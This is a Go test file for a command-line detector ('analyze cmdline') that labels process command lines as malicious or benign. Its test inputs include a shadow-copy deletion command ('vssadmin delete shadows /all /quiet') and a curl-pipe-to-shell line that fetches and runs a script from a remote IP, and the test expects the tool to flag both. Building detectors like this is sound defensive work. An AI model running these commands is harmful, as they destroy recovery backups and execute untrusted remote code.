package cli

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestAnalyzeCmdline(t *testing.T) {
	code, out, errs := run(t, "", nil, "analyze", "cmdline", `vssadmin.exe delete shadows /all /quiet`, "explorer.exe")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errs)
	}
	if !strings.Contains(out, "malicious") || !strings.Contains(out, "skipped (standard execution)") || !strings.Contains(out, "T1490") {
		t.Errorf("text output:\n%s", out)
	}

	file := filepath.Join(t.TempDir(), "lines.txt")
	os.WriteFile(file, []byte("certutil -hashfile setup.exe SHA256\n\ncurl -fsSL http://80.94.95.115:8080/x.sh | sh\nnotepad.exe\n"), 0o644)
	code, out, errs = run(t, "", nil, "analyze", "cmdline", "--file", file, "--json")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errs)
	}
	var rows []map[string]any
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("not one JSON object per line: %v\n%s", err, sc.Text())
		}
		rows = append(rows, m)
	}
	if len(rows) != 3 {
		t.Fatalf("rows: %d\n%s", len(rows), out)
	}
	for _, k := range []string{"cmdline", "verdict", "score", "skipped", "rules", "decoded"} {
		if _, ok := rows[0][k]; !ok {
			t.Errorf("JSON lacks %q", k)
		}
	}
	if rows[1]["verdict"] != "malicious" || rows[2]["skipped"] != true || rows[0]["verdict"] == "malicious" {
		t.Errorf("verdicts: %v / %v / %v", rows[0]["verdict"], rows[1]["verdict"], rows[2]["skipped"])
	}

	if code, _, errs = run(t, "", nil, "analyze", "cmdline"); code != ExitBadInput || !strings.Contains(errs, "at least one command line") {
		t.Errorf("no input: exit %d %s", code, errs)
	}
}
